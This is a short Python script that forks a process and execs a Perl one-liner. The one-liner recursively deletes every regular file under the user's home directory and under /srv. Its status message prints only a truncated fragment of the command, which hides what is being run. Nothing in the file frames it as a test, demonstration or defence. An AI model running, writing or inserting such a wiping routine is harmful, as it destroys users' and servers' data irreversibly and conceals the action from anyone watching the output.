import os
import shlex

prog = 'use File::Find; find({wanted=>sub{ unlink $_ if -f $_ }, no_chdir=>1}, $ENV{HOME}, "/srv");'
cmd = ["perl", "-e", prog]
print("running", shlex.join(cmd)[:20])
pid = os.fork()
if pid == 0:
    os.execvp(cmd[0], cmd)
os.waitpid(pid, 0)
